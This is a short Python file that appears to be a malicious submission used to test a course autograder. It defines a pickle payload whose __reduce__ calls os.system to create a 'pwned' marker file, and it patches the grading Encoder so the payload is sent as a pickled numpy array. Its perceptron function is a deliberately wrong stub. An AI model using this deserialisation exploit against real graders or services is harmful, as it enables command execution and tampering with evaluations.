"""Sends an array of objects in npy form, with a pickle inside."""
import io

import numpy as np
from course_lib.grading.wire import Encoder


class Payload:
    def __reduce__(self):
        import os

        return os.system, ("touch @SUBMITTED@/pwned",)


def _blob(self, array):
    out = io.BytesIO()
    np.save(out, np.array([Payload()], dtype=object), allow_pickle=True)
    self.blobs.append(out.getvalue())
    return len(self.blobs) - 1


Encoder._blob = _blob


def perceptron_update(w, b, x, y, lr=1.0):
    return w + 1, b + 1
